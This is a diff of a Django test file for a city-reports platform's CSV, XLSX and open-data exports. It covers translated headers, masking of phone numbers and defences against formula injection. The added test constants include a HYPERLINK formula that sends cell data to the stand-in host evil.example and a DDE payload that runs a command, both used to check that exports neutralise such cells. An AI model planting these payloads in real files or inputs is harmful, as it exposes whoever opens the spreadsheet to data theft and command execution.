@@ -16,7 +16,7 @@ from django.utils.http import http_date
 from cityops.agencies.calendar import VIETNAM_TZ
 from cityops.platform import clock
 from cityops.reports import workflow
-from cityops.reports.choices import RejectionReason
+from cityops.reports.choices import RatingValue, RejectionReason, Visibility
 from cityops.reports.tests.factories import CategoryFactory
 from cityops.reports.tests.helpers import report_in, submit
 
@@ -56,8 +56,9 @@ def rows_of(response) -> list[dict[str, str]]:
 
 
 def export(client, user, fmt="csv", **params):
+    """An export in English: the header labels are the msgids."""
     client.force_login(user)
-    return client.get(reverse("dashboard:export", args=[fmt]), params)
+    return client.get(reverse("dashboard:export", args=[fmt]), params, HTTP_ACCEPT_LANGUAGE="en")
 
 
 def test_operators_export_reports_with_the_reporters_contact(client, operator, reports):
@@ -65,26 +66,26 @@ def test_operators_export_reports_with_the_reporters_contact(client, operator, r
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
     assert "attachment" in response["Content-Disposition"]
-    rows = {row["id"]: row for row in rows_of(response)}
+    rows = {row["ID"]: row for row in rows_of(response)}
     handled = rows[str(reports["handled"].pk)]
-    assert handled["reporter_username"] == "citizen"
-    assert handled["contact_phone"] == "0912345678"
-    assert PHONE in handled["description"]
+    assert handled["Reporter's username"] == "citizen"
+    assert handled["Contact phone"] == "0912345678"
+    assert PHONE in handled["Description"]
     assert len(rows) == 4
 
 
 def test_leaders_export_no_reporter_and_read_the_text_masked(client, leader, reports):
     rows = rows_of(export(client, leader))
-    assert "reporter_username" not in rows[0]
-    assert "contact_phone" not in rows[0]
-    handled = next(row for row in rows if row["id"] == str(reports["handled"].pk))
-    assert PHONE not in handled["description"]
-    assert "•" in handled["description"]
+    assert "Reporter's username" not in rows[0]
+    assert "Contact phone" not in rows[0]
+    handled = next(row for row in rows if row["ID"] == str(reports["handled"].pk))
+    assert PHONE not in handled["Description"]
+    assert "•" in handled["Description"]
 
 
 def test_the_export_takes_the_console_filters(client, operator, reports, agency):
     rows = rows_of(export(client, operator, agency=agency.code, status="resolved"))
-    assert [row["id"] for row in rows] == [str(reports["handled"].pk)]
+    assert [row["ID"] for row in rows] == [str(reports["handled"].pk)]
     assert rows_of(export(client, operator, submitted_from="2026-11-01")) == []
 
 
@@ -107,8 +108,8 @@ def test_the_spreadsheet_is_a_real_xlsx_with_a_header_and_a_row_per_report(
     with zipfile.ZipFile(io.BytesIO(body(response))) as workbook:
         sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
     assert sheet.count("<row ") == 1 + 4
-    assert "submitted_at" in sheet  # constant_memory writes inline strings
-    assert "contact_phone" in sheet
+    assert "Submitted at" in sheet  # constant_memory writes inline strings
+    assert "Contact phone" in sheet
 
 
 def test_the_geojson_has_a_point_feature_per_located_report(client, leader, reports):
@@ -127,26 +128,58 @@ def test_the_timeline_export_lists_every_event_of_the_chosen_reports(
 ):
     client.force_login(operator)
     handled = reports["handled"]
-    response = client.get(reverse("dashboard:export_events"), {"id": str(handled.pk)})
+    response = client.get(
+        reverse("dashboard:export_events"), {"id": str(handled.pk)}, HTTP_ACCEPT_LANGUAGE="en"
+    )
     rows = rows_of(response)
-    assert [row["kind"] for row in rows] == [
+    assert [row["Event"] for row in rows] == [
         "submitted",
         "accepted",
         "assigned",
         "agency_accepted",
         "resolved",
     ]
-    assert rows[0]["actor"] == "citizen"
+    assert rows[0]["Actor"] == "citizen"
     client.force_login(leader)
-    response = client.get(reverse("dashboard:export_events"), {"id": str(handled.pk)})
-    assert "actor" not in rows_of(response)[0]
+    response = client.get(
+        reverse("dashboard:export_events"), {"id": str(handled.pk)}, HTTP_ACCEPT_LANGUAGE="en"
+    )
+    assert "Actor" not in rows_of(response)[0]
+
+
+def test_leaders_read_staff_public_words_as_written_and_the_rest_masked(
+    client, operator, agency_staff, citizen, leader, reports
+):
+    switchboard = "Gọi 0234 3822 222 (tổng đài)"
+    handled = reports["handled"]
+    workflow.report_add_note(
+        report=handled, actor=agency_staff, text=switchboard, visibility=Visibility.PUBLIC
+    )
+    workflow.report_add_note(
+        report=handled, actor=operator, text=f"Đã gọi {PHONE}", visibility=Visibility.INTERNAL
+    )
+    workflow.report_rate(
+        report=handled, actor=citizen, value=RatingValue.UNSATISFIED, comment=f"Gọi lại {PHONE}"
+    )
+
+    client.force_login(leader)
+    response = client.get(
+        reverse("dashboard:export_events"), {"id": str(handled.pk)}, HTTP_ACCEPT_LANGUAGE="en"
+    )
+    notes = [row["Note"] for row in rows_of(response)][-3:]
+    assert notes == [switchboard, "Đã gọi 090•••••56", "Gọi lại 090•••••56"]
 
 
 # --- open data ---------------------------------------------------------------------------------
 
 
 def open_data(client, fmt="csv", **params):
-    return client.get(reverse("public_stats:open_data", args=[fmt]), params, REMOTE_ADDR="10.1.2.3")
+    return client.get(
+        reverse("public_stats:open_data", args=[fmt]),
+        params,
+        REMOTE_ADDR="10.1.2.3",
+        HTTP_ACCEPT_LANGUAGE="en",
+    )
 
 
 def test_open_data_lists_reviewed_public_reports_without_personal_data(client, reports):
@@ -154,7 +187,7 @@ def test_open_data_lists_reviewed_public_reports_without_personal_data(client, r
     assert response.status_code == 200
     assert response["Cache-Control"] == "public, max-age=300"
     rows = rows_of(response)
-    assert sorted(int(row["id"]) for row in rows) == sorted(
+    assert sorted(int(row["ID"]) for row in rows) == sorted(
         [reports["handled"].pk, reports["other"].pk]
     )
     content = body(open_data(client)).decode()
@@ -200,4 +233,102 @@ def test_open_data_is_rate_limited_per_client(client, reports, settings):
 
 def test_open_data_takes_the_same_filters(client, reports):
     rows = rows_of(open_data(client, category="tourism"))
-    assert [int(row["id"]) for row in rows] == [reports["other"].pk]
+    assert [int(row["ID"]) for row in rows] == [reports["other"].pk]
+
+
+# --- what a spreadsheet does with the cells ------------------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"Xem ảnh")'
+FORMULA_DESCRIPTION = "+1+cmd|' /C calc'!A0"
+FORMULA_ADDRESS = "@SUM(1+1)"
+
+
+@pytest.fixture
+def formula_report(operator):
+    with clock.frozen_at(OCTOBER):
+        return report_in(
+            "accepted",
+            operator=operator,
+            title=FORMULA_TITLE,
+            description=FORMULA_DESCRIPTION,
+            address=FORMULA_ADDRESS,
+        )
+
+
+def test_one_helper_makes_every_formula_like_cell_inert_and_keeps_numbers_numbers():
+    from cityops.stats.exports import FormulaLike, _csv_text, export_cells
+
+    cells = export_cells(["=1+1", "+1", "-5", "@A1", "\t=1", "\r=1", "Lê Lợi", -5, 2.5, None])
+    assert [isinstance(cell, FormulaLike) for cell in cells] == [True] * 6 + [False] * 4
+    assert [_csv_text(cell) for cell in cells] == [
+        "'=1+1",
+        "'+1",
+        "'-5",
+        "'@A1",
+        "'\t=1",
+        "'\r=1",
+        "Lê Lợi",
+        -5,
+        2.5,
+        "",
+    ]
+
+
+def test_csv_exports_neutralise_formulas_for_staff_and_in_open_data(
+    client, operator, formula_report
+):
+    staff_rows = rows_of(export(client, operator))
+    client.logout()
+    public_rows = rows_of(open_data(client))
+    for rows in (staff_rows, public_rows):
+        row = next(row for row in rows if row["ID"] == str(formula_report.pk))
+        assert row["Title"] == "'" + FORMULA_TITLE
+        assert row["Description"] == "'" + FORMULA_DESCRIPTION
+        assert row["Address"] == "'" + FORMULA_ADDRESS
+
+
+def test_the_xlsx_export_holds_formula_like_text_as_text_never_as_a_formula(
+    client, operator, formula_report
+):
+    with zipfile.ZipFile(io.BytesIO(body(export(client, operator, "xlsx")))) as workbook:
+        sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
+        styles = workbook.read("xl/styles.xml").decode()
+    assert "<f>" not in sheet
+    assert "HYPERLINK" in sheet  # as an inline string
+    assert 'quotePrefix="1"' in styles  # stays text when someone edits the cell
+
+
+def test_every_csv_starts_with_a_bom_and_gives_times_in_vietnam_with_the_offset(
+    client, operator, reports
+):
+    handled = reports["handled"]
+    for response in (export(client, operator), open_data(client)):
+        raw = body(response)
+        assert raw.startswith("\ufeff".encode())
+        row = next(r for r in rows_of_bytes(raw) if r["ID"] == str(handled.pk))
+        assert row["Submitted at"] == "2026-10-06T09:00:00+07:00"
+
+
+def rows_of_bytes(raw: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+
+
+def test_the_headers_are_in_the_readers_language(client, operator, reports):
+    client.force_login(operator)
+    url = reverse("dashboard:export", args=["csv"])
+    vietnamese = body(client.get(url, HTTP_ACCEPT_LANGUAGE="vi")).decode("utf-8-sig")
+    english = body(client.get(url, HTTP_ACCEPT_LANGUAGE="en")).decode("utf-8-sig")
+    assert "Lĩnh vực,Trạng thái" in vietnamese.splitlines()[0]
+    assert "Category,Status" in english.splitlines()[0]
+    open_vi = client.get(reverse("public_stats:open_data", args=["csv"]), HTTP_ACCEPT_LANGUAGE="vi")
+    assert "Lĩnh vực,Trạng thái" in body(open_vi).decode("utf-8-sig").splitlines()[0]
+
+
+def test_the_staff_export_gives_the_reporters_name_in_the_vietnamese_order(
+    client, operator, reports, citizen
+):
+    citizen.full_name = "Nguyễn Văn Bình"
+    citizen.save(update_fields=["full_name"])
+    rows = rows_of(export(client, operator))
+    handled = next(row for row in rows if row["ID"] == str(reports["handled"].pk))
+    assert handled["Reporter's full name"] == "Nguyễn Văn Bình"
